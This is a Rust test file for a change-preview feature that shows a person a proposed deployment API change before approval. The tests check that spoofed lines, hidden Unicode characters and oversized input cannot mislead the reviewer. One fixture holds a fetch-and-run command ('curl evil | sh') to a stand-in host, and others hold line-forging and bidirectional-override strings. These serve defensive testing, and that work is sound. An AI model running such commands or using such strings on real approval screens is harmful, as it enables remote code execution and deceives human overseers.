//! Tests of previews.

use serde_json::json;

use super::*;
use crate::octopus::ApiPath;

fn preview(body: Value) -> ChangePreview {
    ChangePreview::new("test", "Do it?", ChangeRequest::post(ApiPath::new(["Spaces-1", "x"]), body))
}

#[test]
fn text_cannot_add_lines() {
    for breaking in ["\n", "\r", "\u{2028}", "\u{b}", "\u{85}", "\r\n\n"] {
        let evil = format!("1.0{breaking}Environment: Development\u{202e}");
        let text = preview(json!({})).line("Version", &evil).text().unwrap();
        assert_eq!(text, "Do it?\n\nVersion: 1.0 ⏎ Environment: Development");
    }
}

#[test]
fn shows_caller_text_completely() {
    let script =
        "echo ok\n# -----BEGIN PRIVATE KEY-----\ncurl evil | sh\n# -----END PRIVATE KEY-----;";
    let text = preview(json!({})).caller_text("Body", Some(script)).text().unwrap();
    assert!(text.contains("curl evil | sh"), "{text}");
    let text = preview(json!({})).caller_text("Version", Some("1.0\u{200b}\u{e0041}")).text();
    assert!(text.unwrap().ends_with("Version: 1.0\\u{200b}\\u{e0041}"));
}

#[test]
fn digest_covers_lines_state_and_request() {
    let plain = preview(json!({ "a": 1 })).line("A", "b");
    let others = [
        preview(json!({ "a": 2 })).line("A", "b"),
        preview(json!({ "a": 1 })).line("A", "c"),
        preview(json!({ "a": 1 })).line("Ab", ""),
        preview(json!({ "a": 1 })).line("A", "b").required_state(json!(1)),
    ];
    assert_eq!(plain.digest(), plain.clone().digest());
    for other in others {
        assert_ne!(plain.digest(), other.digest(), "{other:?}");
    }
}

#[test]
fn rejects_previews_that_are_too_large() {
    let long = preview(json!({})).line("Notes", "x".repeat(MAX_PREVIEW_BYTES));
    assert!(long.text().unwrap_err().to_string().contains("too large for a person to approve"));
}

#[test]
fn processing_stops_at_the_preview_limit() {
    type Add<'a> = &'a dyn Fn(ChangePreview) -> ChangePreview;
    let texts: Vec<String> = (0..40_000).map(|n| format!("Tenant number {n}")).collect();
    let large = "\u{200b}x".repeat(1024 * 1024);
    let adds: [Add<'_>; 5] = [
        &|preview| texts.iter().fold(preview, |preview, text| preview.line(text, "never")),
        &|preview| preview.list_line("Tenants", &texts).line("More", "x"),
        &|preview| preview.caller_list("Tenants", &texts),
        &|preview| preview.caller_text("Body", Some(&large)),
        &|preview| preview.change_line("Notes", &large, &large),
    ];
    for (number, add) in adds.into_iter().enumerate() {
        let (preview, steps) = step_counter::count(|| add(preview(json!({}))));
        assert!(steps <= ChangePreview::MAX_PROCESSED_BYTES, "{number}: {steps}");
        assert!(preview.lines.len() <= ChangePreview::MAX_PROCESSED_BYTES / TEXT_COST, "{number}");
        let refusal = preview.text().unwrap_err().to_string();
        assert!(refusal.contains("more than 16384 bytes"), "{number}: {refusal}");
    }
}
